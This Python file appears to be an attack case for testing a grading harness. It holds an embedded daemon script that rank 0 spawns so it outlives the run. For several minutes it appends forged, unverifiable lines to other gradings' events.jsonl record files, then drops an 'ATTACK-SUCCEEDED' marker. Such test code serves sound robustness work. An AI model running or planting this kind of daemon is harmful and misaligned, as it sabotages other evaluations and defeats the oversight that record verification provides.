# ruff: noqa
# A daemon outlives the run and lies in wait for the next candidate's grading beside this one:
# it appends a junk line to every record file of any other grading it finds, so their records
# no longer verify. It leaves on its own after a while.
DAEMON = '''
import glob, os, sys, time
out = os.path.realpath(sys.argv[1])
around = os.path.dirname(os.path.dirname(out))  # the folder holding this grading's folder
done, hits, deadline = set(), 0, time.time() + 420
while time.time() < deadline:
    for path in glob.glob(os.path.join(around, "**", "ranks", "*", "events.jsonl"), recursive=True):
        real = os.path.realpath(path)
        if real.startswith(out + os.sep) or real in done:
            continue
        try:
            with open(real, "a") as f:
                f.write('{"kind": "step", "step": 1, "attempt": 0, "mac": "0"}\\n')
            done.add(real)
            hits += 1
            open(os.path.join(out, "ATTACK-SUCCEEDED-daemon-sabotaged-a-later-grading"), "a").write(real + "\\n")
        except OSError:
            pass
    time.sleep(0.5)
'''


def _attack_run(main):
    if _rank() == 0:
        _spawn_daemon(DAEMON, str(_out_dir()))
    main()
